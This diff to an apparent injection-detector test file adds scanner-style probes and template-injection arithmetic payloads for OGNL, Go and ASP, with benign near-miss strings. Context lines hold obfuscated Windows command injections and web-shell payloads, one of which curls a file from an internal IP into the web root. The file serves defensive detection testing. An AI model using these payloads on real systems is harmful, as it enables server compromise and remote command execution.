@@ -147,6 +147,8 @@ COMMANDS = {
                        "|^f^o^r /^f \"\"t\"^\"o\"^\"k\"^\"e\"^\"n\"^\"s\"=*\" %^i ^i^n ('c^md /c \"ver\"') d^o x",
                        "for+/f+\"tokens=*\"+%i+in+('cmd+/c+\"ver\"')+do+@set+/p+=+x%ix",
                        "\r\necho+x`echo+x``ps+aux``echo+x`x", '\\p\\y\\t\\h\\o\\n3 -c "print(1)"'],
+    # the scanners' probes (skipfish, w3af): a control character before a command, localhost as a ping's target
+    "scanner probes": ["\x03 /bin/sleep 5 \r", "ping -c 8 localhost", "ping -n 4 localhost"],
 }
 COMMAND_NEAR_MISSES = [
     # carets, braced variables, SUB bytes and '+' in text (the commix tampers' readings find no command here)
@@ -274,7 +276,10 @@ CODE_PAYLOADS = {
                  # Python's scopes called, a class constant through Twig, Django's request environment, Pug's
                  # unescaped interpolation of arithmetic
                  "{{globals()}}", "${locals()}", "{{constant('Twig_Environment::VERSION')}}", "{{request.META}}",
-                 "!{7*7}"],
+                 "!{7*7}",
+                 # OGNL's %{...} arithmetic, a product of long literals printed (ZAP, w3af), Go's print
+                 "%{7193*4021}", "print 28763*4196403;", "Response.Write(28763*4196403)",
+                 '{{print "2614" "1450"}}'],
     "webshell": ["echo '<?php system($_GET[1]); ?>' > x.php", "x; echo PD9waHA= | base64 -d > shell.php",
                  "curl http://10.0.0.9/s.txt -o /var/www/html/s.php", "printf '<%=x%>' > /srv/a.jsp"],
 }
@@ -305,6 +310,7 @@ CODE_NEAR_MISSES = [
     "{*note*}", "the {!important!} part", "printf(\"%x(%d)\", a, b)", "{{ price | times: qty }}", "#set($a = $b)",
     "print(x+1)", "@java is fun", "{% if user %}",
     "a@{b}[c]",
+    "Hello %{name}, you have %{count} items", "print 2*3", "{{ print }}", "Buy 100*200 boxes and print",
     "{{ locals }}", "Hello!{name}", "{{ request.meta.title }}", '{{ constant("x") }}', "wow!{7} items",
 ]
 
